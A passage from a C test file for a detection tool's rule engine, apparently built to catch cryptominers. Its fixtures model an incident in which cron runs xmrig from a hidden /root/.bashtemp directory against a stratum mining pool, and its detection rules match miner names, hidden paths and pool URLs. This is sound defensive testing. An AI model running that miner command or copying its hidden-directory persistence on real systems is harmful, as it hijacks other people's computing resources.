/* SPDX-License-Identifier: GPL-2.0-only */
/*
 * test_rules.c - the rule engine: every operator, lists, all/any/not,
 * exceptions, missing values, every validation message, all-or-nothing
 * loading, file permission checks, kernel filter derivation, and the
 * default rules against realistic hostile and benign exec events.
 */
#include <errno.h>
#include <fcntl.h>
#include <ftw.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include <cmocka.h>

#include "model/event.h"
#include "model/proc_name.h"
#include "rules/fields.h"
#include "rules/rules.h"

/* --- building events by hand -------------------------------------------- */

struct tproc {
	struct mw_process p;
	char exe[512];
	char cwd[512];
	char exec_path[512];
	char cmd[2048];
	char argbuf[2048];
	char *argv[64];
};

/*
 * exe, cwd: paths (NULL: unknown). args: argv joined by '|', so arguments
 * may hold spaces (NULL: no argv at all); PIPE inside an argument is a
 * literal '|' (shell pipelines in sh -c command lines).
 */
#define PIPE "\x1f"

static void tproc_set(struct tproc *t, const char *exe, const char *args,
		      const char *cwd)
{
	const char *base;
	char *s, *tok;
	int n = 0;

	memset(t, 0, sizeof(*t));
	t->p.loginuid = UINT32_MAX;
	t->p.pid = 4242;
	if (exe) {
		snprintf(t->exe, sizeof(t->exe), "%s", exe);
		t->p.exe = t->exe;
		base = strrchr(t->exe, '/');
		t->p.name = base ? (char *)base + 1 : t->exe;
		snprintf(t->p.comm, sizeof(t->p.comm), "%.15s", t->p.name);
		/* The decoder's exec_path: what execve got, here the same. */
		snprintf(t->exec_path, sizeof(t->exec_path), "%s", exe);
		t->p.exec_path = t->exec_path;
	}
	if (cwd) {
		snprintf(t->cwd, sizeof(t->cwd), "%s", cwd);
		t->p.cwd = t->cwd;
	}
	if (args) {
		snprintf(t->argbuf, sizeof(t->argbuf), "%s", args);
		for (s = t->argbuf; (tok = strsep(&s, "|")) && n < 63;) {
			/* PIPE ("\x1f") stands for a literal '|' in an
			 * argument. */
			for (char *c = tok; *c; c++)
				if (*c == '\x1f')
					*c = '|';
			t->argv[n++] = tok;
		}
		t->argv[n] = NULL;
		t->p.argv = t->argv;
		t->p.argc = n;
		for (int i = 0; i < n; i++) {
			strcat(t->cmd, i ? " " : "");
			strcat(t->cmd, t->argv[i]);
		}
		t->p.cmdline = t->cmd;
	}
	/* The model's naming rule, as the process cache applies it. */
	t->p.name = proc_name__pick(&t->p);
}

struct tev {
	struct tproc self, parent, anc[4];
	const struct mw_process *ancp[4];
	struct mw_event ev;
};

/* Wire up ev: with a parent when has_parent, then n_anc ancestors. */
static struct mw_event *tev_wire(struct tev *t, int has_parent, int n_anc)
{
	int i;

	t->ev.kind = MW_KIND_EXEC;
	t->ev.proc = &t->self.p;
	t->ev.parent = has_parent ? &t->parent.p : NULL;
	for (i = 0; i < n_anc; i++)
		t->ancp[i] = &t->anc[i].p;
	t->ev.ancestors = n_anc ? t->ancp : NULL;
	t->ev.n_ancestors = n_anc;
	return &t->ev;
}

/*
 * The event the operator tests run against: the SSH incident's miner,
 * started by root's cron through a shell.
 */
static struct mw_event *std_event(struct tev *t)
{
	memset(t, 0, sizeof(*t));
	tproc_set(&t->self, "/root/.bashtemp/xmrig",
		  "./xmrig|-o|stratum+tcp://pool.minexmr.com:4444|"
		  "--donate-level=1",
		  "/root/.bashtemp");
	t->self.p.uid = 1000;
	t->self.p.gid = 1001;
	t->self.p.euid = 0;
	t->self.p.loginuid = 1000;
	strcpy(t->self.p.sha256, "ab12");
	tproc_set(&t->parent, "/usr/bin/bash", "bash|-c|/root/.bashtemp/run.sh",
		  "/root");
	t->parent.p.pid = 4000;
	tproc_set(&t->anc[0], "/usr/sbin/cron", "/usr/sbin/cron|-f", "/");
	tproc_set(&t->anc[1], "/usr/lib/systemd/systemd", "/sbin/init", "/");
	return tev_wire(t, 1, 2);
}

/* --- rule files in a private temp dir ------------------------------------ */

static char tmpdir[64];

static int rm_one(const char *p, const struct stat *st, int flag,
		  struct FTW *ftw)
{
	return remove(p);
}

static int setup_dir(void **state)
{
	strcpy(tmpdir, "/tmp/mw-test-rules-XXXXXX");
	if (!mkdtemp(tmpdir))
		return -1;
	return chmod(tmpdir, 0700);
}

static int teardown_dir(void **state)
{
	return nftw(tmpdir, rm_one, 16, FTW_DEPTH | FTW_PHYS);
}

static void write_file(const char *name, mode_t mode, const char *fmt, ...)
{
	char path[256];
	va_list ap;
	FILE *f;

	snprintf(path, sizeof(path), "%s/%s", tmpdir, name);
	f = fopen(path, "w");
	assert_non_null(f);
	va_start(ap, fmt);
	vfprintf(f, fmt, ap);
	va_end(ap);
	assert_int_equal(fclose(f), 0);
	assert_int_equal(chmod(path, mode), 0);
}

static void rm_file(const char *name)
{
	char path[256];

	snprintf(path, sizeof(path), "%s/%s", tmpdir, name);
	unlink(path);
}

static int load_path(const char *name, struct rules **rs, char *err, size_t len)
{
	char path[256];
	const char *paths[1] = {path};

	snprintf(path, sizeof(path), "%s/%s", tmpdir, name);
	return rules__load(paths, 1, rs, err, len);
}

/* One rule around a condition; lists as given (a JSON object body). */
#define RULE_FMT                                                               \
	"{\"lists\": {%s}, \"rules\": [{\"id\": \"T-1\", \"name\": \"t\", "    \
	"\"event\": \"exec\", \"condition\": %s, %s \"severity\": 50, "        \
	"\"mitre\": {\"techniques\": [\"T1496\"]}}]}"

static const char *std_lists =
    "\"names\": [\"minerd\", \"xmrig\"], \"ports\": [22, \"3333-3340\"], "
    "\"dirs\": [\"/usr/\", \"/root/\"]";

static int eval_cond(const char *cond, const char *exc,
		     const struct mw_event *ev)
{
	struct rules *rs = NULL;
	char err[512];
	int n, ret;

	write_file("t.json", 0644, RULE_FMT, std_lists, cond, exc ? exc : "");
	ret = load_path("t.json", &rs, err, sizeof(err));
	if (ret)
		fail_msg("load failed for %s: %s", cond, err);
	n = rules__eval(rs, ev, NULL, NULL);
	rules__free(rs);
	return n;
}

/* --- operators ------------------------------------------------------------ */

struct op_case {
	const char *cond;
	int want;
};

static const struct op_case op_cases[] = {
    /* eq / in */
    {"{\"field\": \"process.name\", \"eq\": \"xmrig\"}", 1},
    {"{\"field\": \"process.name\", \"eq\": \"XMRIG\"}", 0},
    {"{\"field\": \"process.name\", \"eq\": \"XMRIG\", \"nocase\": true}", 1},
    {"{\"field\": \"process.name\", \"eq\": [\"a\", \"xmrig\"]}", 1},
    {"{\"field\": \"process.name\", \"in\": [\"a\", \"b\"]}", 0},
    {"{\"field\": \"process.name\", \"in\": \"@names\"}", 1},
    {"{\"field\": \"process.name\", \"in\": [\"MINERD\", \"XMRig\"], "
     "\"nocase\": true}",
     1},
    {"{\"field\": \"process.name\", \"eq\": \"xmri\"}", 0},
    /* prefix / suffix */
    {"{\"field\": \"process.executable\", \"prefix\": \"/root/.\"}", 1},
    {"{\"field\": \"process.executable\", \"prefix\": \"/ROOT\"}", 0},
    {"{\"field\": \"process.executable\", \"prefix\": \"/ROOT\", "
     "\"nocase\": true}",
     1},
    {"{\"field\": \"process.executable\", \"prefix\": \"@dirs\"}", 1},
    {"{\"field\": \"process.executable\", \"suffix\": \"/xmrig\"}", 1},
    {"{\"field\": \"process.executable\", \"suffix\": \"XMRIG\", "
     "\"nocase\": true}",
     1},
    {"{\"field\": \"process.executable\", \"suffix\": \"/root/.bashtemp/"
     "xmrig/longer\"}",
     0},
    /* glob: '*' crosses '/' */
    {"{\"field\": \"process.executable\", \"glob\": \"/root/*/xm?ig\"}", 1},
    {"{\"field\": \"process.executable\", \"glob\": \"*/.bash*\"}", 1},
    {"{\"field\": \"process.executable\", \"glob\": \"*/.BASH*\"}", 0},
    {"{\"field\": \"process.executable\", \"glob\": \"*/.BASH*\", "
     "\"nocase\": true}",
     1},
    /* contains */
    {"{\"field\": \"process.command_line\", \"contains\": \"stratum+tcp\"}", 1},
    {"{\"field\": \"process.command_line\", \"contains\": \"STRATUM\"}", 0},
    {"{\"field\": \"process.command_line\", \"contains\": \"STRATUM\", "
     "\"nocase\": true}",
     1},
    /* regex */
    {"{\"field\": \"process.command_line\", \"regex\": \"-o "
     "[a-z+]+://[^ ]+:[0-9]+\"}",
     1},
    {"{\"field\": \"process.name\", \"regex\": \"^XM\"}", 0},
    {"{\"field\": \"process.name\", \"regex\": \"^XM\", \"nocase\": true}", 1},
    /* list fields: any element */
    {"{\"field\": \"process.args\", \"eq\": \"-o\"}", 1},
    {"{\"field\": \"process.args\", \"prefix\": \"--donate\"}", 1},
    {"{\"field\": \"process.args\", \"eq\": \"-u\"}", 0},
    {"{\"field\": \"process.parent.args\", \"eq\": \"-c\"}", 1},
    {"{\"field\": \"process.ancestors.name\", \"eq\": \"bash\"}", 1},
    {"{\"field\": \"process.ancestors.name\", \"eq\": \"cron\"}", 1},
    {"{\"field\": \"process.ancestors.name\", \"eq\": \"systemd\"}", 1},
    {"{\"field\": \"process.ancestors.executable\", \"suffix\": "
     "\"/cron\"}",
     1},
    /* numbers */
    {"{\"field\": \"process.args_count\", \"eq\": 4}", 1},
    {"{\"field\": \"process.args_count\", \"range\": \"3-5\"}", 1},
    {"{\"field\": \"process.args_count\", \"range\": [1, \"6-9\"]}", 0},
    {"{\"field\": \"process.args_count\", \"range\": 4}", 1},
    {"{\"field\": \"process.pid\", \"in\": [1, 4242]}", 1},
    {"{\"field\": \"process.user.id\", \"eq\": 0}", 1},
    {"{\"field\": \"process.real_user.id\", \"eq\": 1000}", 1},
    {"{\"field\": \"process.real_group.id\", \"eq\": 1001}", 1},
    {"{\"field\": \"process.group.id\", \"eq\": 1001}", 1},
    {"{\"field\": \"process.parent.pid\", \"range\": \"3999-4001\"}", 1},
    {"{\"field\": \"minerwatch.process.loginuid\", \"eq\": 1000}", 1},
    {"{\"field\": \"process.args_count\", \"range\": \"@ports\"}", 0},
    /* booleans */
    {"{\"field\": \"minerwatch.process.memfd\", \"eq\": false}", 1},
    {"{\"field\": \"minerwatch.process.memfd\", \"eq\": true}", 0},
    {"{\"field\": \"minerwatch.process.deleted\", \"eq\": true}", 0},
    /* other strings */
    {"{\"field\": \"process.argv0\", \"eq\": \"./xmrig\"}", 1},
    {"{\"field\": \"process.working_directory\", \"eq\": "
     "\"/root/.bashtemp\"}",
     1},
    {"{\"field\": \"process.parent.name\", \"eq\": \"bash\"}", 1},
    {"{\"field\": \"process.parent.executable\", \"eq\": \"/usr/bin/bash\"}",
     1},
    {"{\"field\": \"process.parent.command_line\", \"contains\": "
     "\".bashtemp\"}",
     1},
    {"{\"field\": \"process.hash.sha256\", \"eq\": \"ab12\"}", 1},
    {"{\"field\": \"minerwatch.process.comm\", \"eq\": \"xmrig\"}", 1},
    {"{\"field\": \"minerwatch.process.exec_path\", \"suffix\": \"xmrig\"}", 1},
    /* "@@" is a literal leading '@' */
    {"{\"field\": \"process.name\", \"eq\": \"@@names\"}", 0},
    /* missing values: never a positive match, `not` of them matches */
    {"{\"field\": \"container.id\", \"prefix\": \"\"}", 0},
    {"{\"not\": {\"field\": \"container.id\", \"prefix\": \"\"}}", 1},
    /* all / any / not */
    {"{\"all\": [{\"field\": \"process.name\", \"eq\": \"xmrig\"}, "
     "{\"field\": \"process.user.id\", \"eq\": 0}]}",
     1},
    {"{\"all\": [{\"field\": \"process.name\", \"eq\": \"xmrig\"}, "
     "{\"field\": \"process.user.id\", \"eq\": 1}]}",
     0},
    {"{\"any\": [{\"field\": \"process.name\", \"eq\": \"no\"}, "
     "{\"field\": \"process.user.id\", \"eq\": 0}]}",
     1},
    {"{\"any\": [{\"field\": \"process.name\", \"eq\": \"no\"}, "
     "{\"field\": \"process.user.id\", \"eq\": 1}]}",
     0},
    {"{\"not\": {\"field\": \"process.name\", \"eq\": \"xmrig\"}}", 0},
    {"{\"not\": {\"not\": {\"field\": \"process.name\", \"eq\": "
     "\"xmrig\"}}}",
     1},
    {"{\"all\": [{\"any\": [{\"field\": \"process.name\", \"eq\": \"x\"}, "
     "{\"not\": {\"field\": \"process.pid\", \"eq\": 1}}]}]}",
     1},
};

static void test_ops(void **state)
{
	struct tev t;
	size_t i;

	for (i = 0; i < sizeof(op_cases) / sizeof(op_cases[0]); i++) {
		int got = eval_cond(op_cases[i].cond, NULL, std_event(&t));

		if (got != op_cases[i].want)
			fail_msg("case %zu: %s: got %d, want %d", i,
				 op_cases[i].cond, got, op_cases[i].want);
	}
}

static const char *rules_dir(void);

/*
 * Which file actions can a rule set match? The kernel skips the others
 * (mw_file_ops_off). all pins by any kid, any only when every kid pins,
 * not never; one unpinned file rule needs every action.
 */
static void test_file_actions(void **state)
{
	static const char *const names[] = {"chmod", "chown", "link"};
	const char *paths[1] = {rules_dir()};
	struct rules *rs;
	char err[512];

	(void)state;
	/* The shipped rules read chmod and link, never chown. */
	assert_int_equal(rules__load(paths, 1, &rs, err, sizeof(err)), 0);
	assert_int_equal(rules__file_actions(rs, names, 3), 1u << 0 | 1u << 2);
	rules__free(rs);
#define FRULE(c)                                                               \
	"{\"rules\": [{\"id\": \"T-F\", \"name\": \"t\", \"event\": \"file\", "  \
	"\"condition\": " c ", \"severity\": 50, "                            \
	"\"mitre\": {\"techniques\": [\"T1222\"]}}]}"
	write_file("fa.json", 0644,
		   FRULE("{\"all\": [{\"field\": \"file.path\", \"prefix\": \"/etc/\"},"
			 " {\"field\": \"event.action\", \"eq\": \"chown\"}]}"));
	assert_int_equal(load_path("fa.json", &rs, err, sizeof(err)), 0);
	assert_int_equal(rules__file_actions(rs, names, 3), 1u << 1);
	rules__free(rs);
	/* any: one kid without an action pin lets every action through. */
	write_file("fa.json", 0644,
		   FRULE("{\"any\": [{\"field\": \"event.action\", \"eq\": \"chown\"},"
			 " {\"field\": \"file.path\", \"eq\": \"/etc/x\"}]}"));
	assert_int_equal(load_path("fa.json", &rs, err, sizeof(err)), 0);
	assert_int_equal(rules__file_actions(rs, names, 3), 7u);
	rules__free(rs);
	/* not: never pins. */
	write_file("fa.json", 0644,
		   FRULE("{\"not\": {\"field\": \"event.action\", \"eq\": \"chown\"}}"));
	assert_int_equal(load_path("fa.json", &rs, err, sizeof(err)), 0);
	assert_int_equal(rules__file_actions(rs, names, 3), 7u);
	rules__free(rs);
	rm_file("fa.json");
#undef FRULE
}

static void test_missing_parent(void **state)
{
	struct tev t;
	struct mw_event *ev = std_event(&t);

	ev->parent = NULL;
	assert_int_equal(eval_cond("{\"field\": \"process.parent.name\", "
				   "\"eq\": \"bash\"}",
				   NULL, ev),
			 0);
	assert_int_equal(eval_cond("{\"not\": {\"field\": "
				   "\"process.parent.name\", \"eq\": \"x\"}}",
				   NULL, ev),
			 1);
	assert_int_equal(eval_cond("{\"field\": \"process.parent.pid\", "
				   "\"range\": \"0-99999\"}",
				   NULL, ev),
			 0);
	assert_int_equal(eval_cond("{\"field\": \"process.parent.args\", "
				   "\"prefix\": \"\"}",
				   NULL, ev),
			 0);
	/* Without a parent the ancestors list starts at the grandparent. */
	assert_int_equal(eval_cond("{\"field\": \"process.ancestors.name\", "
				   "\"eq\": \"cron\"}",
				   NULL, ev),
			 1);
	assert_int_equal(eval_cond("{\"field\": \"process.ancestors.name\", "
				   "\"eq\": \"bash\"}",
				   NULL, ev),
			 0);
	/* No exe, no argv: the strings are missing, argv0 is "". */
	tproc_set(&t.self, NULL, NULL, NULL);
	assert_int_equal(eval_cond("{\"field\": \"process.name\", "
				   "\"prefix\": \"\"}",
				   NULL, ev),
			 0);
	assert_int_equal(eval_cond("{\"field\": \"process.argv0\", "
				   "\"eq\": \"\"}",
				   NULL, ev),
			 1);
	assert_int_equal(eval_cond("{\"field\": \"process.args\", "
				   "\"prefix\": \"\"}",
				   NULL, ev),
			 0);
}

static void test_exceptions(void **state)
{
	struct tev t;
	const char *c = "{\"field\": \"process.name\", \"eq\": \"xmrig\"}";

	assert_int_equal(
	    eval_cond(c,
		      "\"exceptions\": [{\"field\": "
		      "\"process.parent.name\", \"eq\": \"bash\"}],",
		      std_event(&t)),
	    0);
	assert_int_equal(
	    eval_cond(c,
		      "\"exceptions\": [{\"field\": "
		      "\"process.parent.name\", \"eq\": \"x\"}, "
		      "{\"field\": \"process.pid\", \"eq\": 4242}],",
		      std_event(&t)),
	    0);
	assert_int_equal(eval_cond(c,
				   "\"exceptions\": [{\"field\": "
				   "\"process.parent.name\", \"eq\": \"x\"}],",
				   std_event(&t)),
			 1);
	assert_int_equal(eval_cond(c, "\"enabled\": false,", std_event(&t)), 0);
	/* Kinds: a file event does not reach a rule for exec events. */
	std_event(&t)->kind = MW_KIND_FILE;
	assert_int_equal(eval_cond(c, NULL, &t.ev), 0);
}

/* --- validation messages -------------------------------------------------- */

#define HEAD_NOCOND                                                            \
	"{\"rules\": [{\"id\": \"T-1\", \"name\": \"t\", \"event\": "          \
	"\"exec\", \"severity\": 50, \"mitre\": {\"techniques\": "             \
	"[\"T1496\"]}, "
#define COND(c) HEAD_NOCOND "\"condition\": " c "}]}"
#define NAME_EQ "{\"field\": \"process.name\", \"eq\": \"a\"}"
/* A rule with all keys but those given, to test the head keys. */
#define RULE(...)                                                              \
	"{\"rules\": [{\"id\": \"T-1\", \"condition\": " NAME_EQ               \
	", " __VA_ARGS__ "}]}"
#define OKHEAD "\"name\": \"t\", \"event\": \"exec\", "
#define OKMITRE "\"mitre\": {\"techniques\": [\"T1496\"]}"

struct bad_case {
	const char *json;
	const char *want; /* substring of the message */
};

static const struct bad_case bad_cases[] = {
    {"{\"rules\": [", "t.json: line 1, column"},
    {"{\"rules\": [], \"rules\": []}", "t.json: line 1"},
    {"[]", "t.json: expected an object"},
    {"{\"rulez\": []}", "t.json: rulez: unknown key"},
    {"{\"rules\": {}}", "t.json: rules: expected an array"},
    {"{\"lists\": []}", "t.json: lists: expected an object"},
    {"{\"lists\": {\"x\": [{}]}}",
     "t.json: lists.x[0]: expected a string or an integer"},
    {"{\"lists\": {\"x y\": []}}", "t.json: lists.x y: list names"},
    {"{\"rules\": [{\"name\": \"x\"}]}", "t.json: rules[0]: id: missing"},
    {"{\"rules\": [1]}", "t.json: rules[0]: expected an object"},
    {"{\"rules\": [{\"id\": \"bad id!\"}]}", "t.json: rules[0]: id: "},
    {RULE(OKHEAD "\"severity\": 5, " OKMITRE ", \"severty\": 1"),
     "t.json: rule T-1: severty: unknown key"},
    {RULE("\"event\": \"exec\", \"severity\": 5, " OKMITRE),
     "t.json: rule T-1: name: missing"},
    {RULE(OKHEAD "\"description\": 3, \"severity\": 5, " OKMITRE),
     "rule T-1: description: expected a string"},
    {RULE("\"name\": \"t\", \"event\": \"proc\", \"severity\": 5, " OKMITRE),
     "rule T-1: event: expected \"exec\", \"file\" or \"net\""},
    {RULE(OKHEAD "\"severity\": 101, " OKMITRE),
     "rule T-1: severity: expected an integer 0..100"},
    {RULE(OKHEAD "\"severity\": -1, " OKMITRE),
     "rule T-1: severity: expected an integer 0..100"},
    {RULE(OKHEAD "\"severity\": \"high\", " OKMITRE),
     "rule T-1: severity: expected an integer 0..100"},
    {RULE(OKHEAD "\"severity\": 5"), "rule T-1: mitre: missing"},
    {RULE(OKHEAD "\"severity\": 5, \"mitre\": {\"tactic\": \"Impact\"}"),
     "rule T-1: mitre.techniques: expected a non-empty array"},
    {RULE(OKHEAD "\"severity\": 5, \"mitre\": {\"techniques\": []}"),
     "rule T-1: mitre.techniques: expected a non-empty array"},
    {RULE(OKHEAD "\"severity\": 5, \"mitre\": {\"techniques\": "
		 "[\"T1496\", \"T149\"]}"),
     "rule T-1: mitre.techniques[1]: expected a technique id"},
    {RULE(OKHEAD "\"severity\": 5, \"mitre\": {\"techniques\": "
		 "[\"T1496.1\"]}"),
     "rule T-1: mitre.techniques[0]: expected a technique id"},
    {RULE(OKHEAD "\"severity\": 5, \"mitre\": {\"tactics\": \"x\", "
		 "\"techniques\": [\"T1496\"]}"),
     "rule T-1: mitre: unknown key \"tactics\""},
    {RULE(OKHEAD "\"severity\": 5, \"action\": \"nuke\", " OKMITRE),
     "rule T-1: action: expected \"alert\", \"kill\", \"block\" or \"deny\""},
    {RULE(OKHEAD "\"severity\": 5, \"enabled\": \"yes\", " OKMITRE),
     "rule T-1: enabled: expected true or false"},
    {RULE(OKHEAD "\"severity\": 5, \"exceptions\": {}, " OKMITRE),
     "rule T-1: exceptions: expected an array"},
    {RULE(OKHEAD "\"severity\": 5, \"exceptions\": [" NAME_EQ ", "
		 "{\"field\": \"nope\", \"eq\": 1}], " OKMITRE),
     "rule T-1: exceptions[1]: unknown field \"nope\" for event \"exec\""},
    {HEAD_NOCOND "\"x\": 1}]}", "rule T-1: x: unknown key"},
    {"{\"rules\": [{\"id\": \"T-1\", \"name\": \"t\", \"event\": \"exec\", "
     "\"severity\": 1, " OKMITRE "}]}",
     "rule T-1: condition: missing"},
    {COND("\"x\""), "rule T-1: condition: expected an object, got a string"},
    {COND("{}"), "rule T-1: condition: expected \"all\", \"any\", \"not\""},
    {COND("{\"any\": [" NAME_EQ ", {\"field\": \"process.nmae\", \"eq\": "
	  "\"a\"}]}"),
     "t.json: rule T-1: condition.any[1]: unknown field \"process.nmae\" "
     "for event \"exec\""},
    {COND("{\"all\": [{\"not\": {\"field\": \"x\", \"eq\": 1}}]}"),
     "rule T-1: condition.all[0].not: unknown field \"x\""},
    {COND("{\"all\": []}"), "rule T-1: condition.all: empty array"},
    {COND("{\"any\": {}}"), "rule T-1: condition.any: expected an array"},
    {COND("{\"not\": " NAME_EQ ", \"x\": 1}"),
     "rule T-1: condition: unexpected key \"x\" next to \"not\""},
    {COND("{\"field\": \"process.name\", \"equals\": \"a\"}"),
     "rule T-1: condition: unknown operator \"equals\""},
    {COND("{\"field\": \"process.name\", \"eq\": \"a\", \"in\": [\"b\"]}"),
     "rule T-1: condition: more than one operator"},
    {COND("{\"field\": \"process.name\"}"),
     "rule T-1: condition: no operator for field \"process.name\""},
    {COND("{\"field\": 3, \"eq\": 1}"),
     "rule T-1: condition: \"field\": expected a string"},
    {COND("{\"field\": \"process.name\", \"range\": \"1-2\"}"),
     "rule T-1: condition.range: operator \"range\" does not apply to "
     "string field \"process.name\""},
    {COND("{\"field\": \"process.name\", \"cidr\": \"10.0.0.0/8\"}"),
     "condition.cidr: operator \"cidr\" does not apply to string field"},
    {COND("{\"field\": \"process.pid\", \"regex\": \"1\"}"),
     "condition.regex: operator \"regex\" does not apply to number field"},
    {COND("{\"field\": \"minerwatch.process.memfd\", \"in\": [true]}"),
     "condition.in: operator \"in\" does not apply to boolean field"},
    {COND("{\"field\": \"process.pid\", \"eq\": \"1\"}"),
     "rule T-1: condition.eq: expected an integer, got a string"},
    {COND("{\"field\": \"process.pid\", \"in\": [1, 2.5]}"),
     "rule T-1: condition.in[1]: expected an integer, got a number"},
    {COND("{\"field\": \"minerwatch.process.memfd\", \"eq\": \"yes\"}"),
     "rule T-1: condition.eq: expected true or false"},
    {COND("{\"field\": \"process.pid\", \"eq\": 1, \"nocase\": true}"),
     "rule T-1: condition: \"nocase\" applies only to string operators"},
    {COND("{\"field\": \"process.name\", \"eq\": \"a\", \"nocase\": 1}"),
     "rule T-1: condition.nocase: expected true or false"},
    {COND("{\"field\": \"process.name\", \"regex\": [\"a\", \"(\"]}"),
     "rule T-1: condition.regex[1]: bad regex \"(\": "},
    {COND("{\"field\": \"process.name\", \"in\": \"@nope\"}"),
     "rule T-1: condition.in: unknown list \"@nope\""},
    {COND("{\"field\": \"process.name\", \"in\": [\"@nope\"]}"),
     "rule T-1: condition.in: element 0: list references cannot be nested"},
    {COND("{\"field\": \"process.name\", \"eq\": []}"),
     "rule T-1: condition.eq: empty array"},
    {COND("{\"field\": \"process.name\", \"eq\": [[\"a\"]]}"),
     "rule T-1: condition.eq: element 0: expected a scalar"},
    {COND("{\"field\": \"process.name\", \"eq\": null}"),
     "rule T-1: condition.eq: expected a value or an array"},
    {COND("{\"field\": \"process.name\", \"eq\": 3}"),
     "rule T-1: condition.eq: expected a string, got an integer"},
    {COND("{\"field\": \"process.pid\", \"range\": \"3340-3333\"}"),
     "rule T-1: condition.range: expected an integer or a range like "
     "\"3333-3340\", got \"3340-3333\""},
    {COND("{\"field\": \"process.pid\", \"range\": [\"1-2\", \"x\"]}"),
     "rule T-1: condition.range[1]: expected an integer or a range"},
    {"{\"lists\": {\"p\": [\"abc\"]}, \"rules\": [{\"id\": \"T-1\", "
     "\"name\": \"t\", \"event\": \"exec\", \"severity\": 1, " OKMITRE ", "
     "\"condition\": {\"field\": \"process.pid\", \"range\": \"@p\"}}]}",
     "rule T-1: condition.range: list \"p\"[0]: expected an integer or a "
     "range"},
    {"{\"lists\": {\"p\": [1]}, \"rules\": [{\"id\": \"T-1\", "
     "\"name\": \"t\", \"event\": \"exec\", \"severity\": 1, " OKMITRE ", "
     "\"condition\": {\"field\": \"process.name\", \"in\": \"@p\"}}]}",
     "rule T-1: condition.in: list \"p\"[0]: expected a string, got an "
     "integer"},
    {"{\"rules\": [{\"id\": \"T-1\", \"name\": \"t\", \"event\": \"file\", "
     "\"severity\": 1, " OKMITRE ", \"condition\": {\"field\": "
     "\"destination.port\", \"eq\": 22}}]}",
     "rule T-1: condition: unknown field \"destination.port\" for event "
     "\"file\""},
    {"{\"rules\": [{\"id\": \"T-1\", \"name\": \"t\", \"event\": \"exec\", "
     "\"severity\": 1, " OKMITRE ", \"condition\": " NAME_EQ "}, "
     "{\"id\": \"T-1\"}]}",
     "t.json: rule T-1: id: duplicate rule id (first in"},
};

static void test_validation(void **state)
{
	struct rules *rs;
	char err[512];
	size_t i;
	int ret;

	for (i = 0; i < sizeof(bad_cases) / sizeof(bad_cases[0]); i++) {
		write_file("t.json", 0644, "%s", bad_cases[i].json);
		rs = (struct rules *)1;
		err[0] = '\0';
		ret = load_path("t.json", &rs, err, sizeof(err));
		if (ret != -EINVAL || rs != NULL)
			fail_msg("case %zu: %s: ret %d, rs %p", i,
				 bad_cases[i].json, ret, (void *)rs);
		if (!strstr(err, bad_cases[i].want))
			fail_msg("case %zu: %s:\n  got  \"%s\"\n  want \"%s\"",
				 i, bad_cases[i].json, err, bad_cases[i].want);
		/* One line, and it starts with the file. */
		assert_null(strchr(err, '\n'));
		assert_non_null(strstr(err, tmpdir));
	}
}

static void test_deep_nesting(void **state)
{
	char buf[4096] = "", err[512];
	struct rules *rs;
	int i;

	for (i = 0; i < 40; i++)
		strcat(buf, "{\"not\": ");
	strcat(buf, NAME_EQ);
	for (i = 0; i < 40; i++)
		strcat(buf, "}");
	write_file("t.json", 0644, HEAD_NOCOND "\"condition\": %s}]}", buf);
	assert_int_equal(load_path("t.json", &rs, err, sizeof(err)), -EINVAL);
	assert_non_null(strstr(err, "nested deeper than"));
}

/* --- loading: files, directories, permissions ----------------------------- */

#define ONE_RULE(id, cond)                                                     \
	"{\"id\": \"" id "\", \"name\": \"n\", \"event\": \"exec\", "          \
	"\"severity\": 1, \"mitre\": {\"techniques\": [\"T1496\"]}, "          \
	"\"condition\": " cond "}"

static void test_directory(void **state)
{
	char err[512];
	const char *paths[1] = {tmpdir};
	struct rules *rs;

	rm_file("t.json");
	/* b uses a list that a.json defines; lists are global. */
	write_file("b.json", 0644,
		   "{\"rules\": [" ONE_RULE(
		       "B-1", "{\"field\": \"process.name\", \"in\": "
			      "\"@names\"}") "]}");
	write_file(
	    "a.json", 0644,
	    "{\"lists\": {\"names\": [\"xmrig\"]}, \"rules\": [" ONE_RULE(
		"A-1", NAME_EQ) ", " ONE_RULE("A-2", NAME_EQ) "]}");
	/* Not *.json, or hidden: ignored even though they are not JSON. */
	write_file("notes.txt", 0644, "not json");
	write_file(".x.json", 0644, "not json");
	write_file("c.json.bak", 0644, "not json");
	if (rules__load(paths, 1, &rs, err, sizeof(err)))
		fail_msg("%s", err);
	assert_int_equal(rules__count(rs), 3);
	assert_string_equal(rule__id(rules__get(rs, 0)), "A-1");
	assert_string_equal(rule__id(rules__get(rs, 1)), "A-2");
	assert_string_equal(rule__id(rules__get(rs, 2)), "B-1");
	assert_int_equal(rules__find(rs, "B-1"), 2);
	assert_int_equal(rules__find(rs, "nope"), -1);
	assert_null(rules__get(rs, 3));
	assert_non_null(strstr(rule__file(rules__get(rs, 2)), "b.json"));
	rules__free(rs);

	/* All or nothing: one bad file and nothing is loaded. */
	write_file("c.json", 0644,
		   "{\"rules\": [" ONE_RULE("C-1", "{\"field\": \"x\", "
						   "\"eq\": 1}") "]}");
	rs = (struct rules *)1;
	assert_int_equal(rules__load(paths, 1, &rs, err, sizeof(err)), -EINVAL);
	assert_null(rs);
	assert_non_null(strstr(err, "c.json: rule C-1: condition: unknown "
				    "field \"x\""));
	rm_file("c.json");

	/* Rule ids and list names are unique across files. */
	write_file("c.json", 0644,
		   "{\"rules\": [" ONE_RULE("A-2", NAME_EQ) "]}");
	assert_int_equal(rules__load(paths, 1, &rs, err, sizeof(err)), -EINVAL);
	assert_non_null(strstr(err, "c.json: rule A-2: id: duplicate rule id"));
	assert_non_null(strstr(err, "a.json"));
	write_file("c.json", 0644, "{\"lists\": {\"names\": []}}");
	assert_int_equal(rules__load(paths, 1, &rs, err, sizeof(err)), -EINVAL);
	assert_non_null(strstr(err, "c.json: lists.names: duplicate list"));
	rm_file("c.json");
	rm_file("a.json");
	rm_file("b.json");
	rm_file("notes.txt");
	rm_file(".x.json");
	rm_file("c.json.bak");
}

static void test_permissions(void **state)
{
	char err[512], path[256];
	const char *paths[1] = {tmpdir};
	struct rules *rs;
	FILE *f;
	int i;

	rm_file("t.json");
	write_file("a.json", 0666, "{}");
	rs = (struct rules *)1;
	assert_int_equal(load_path("a.json", &rs, err, sizeof(err)), -EINVAL);
	assert_null(rs);
	assert_non_null(strstr(err, "a.json: file is group- or world-writable "
				    "(mode 0666)"));
	write_file("a.json", 0620, "{}");
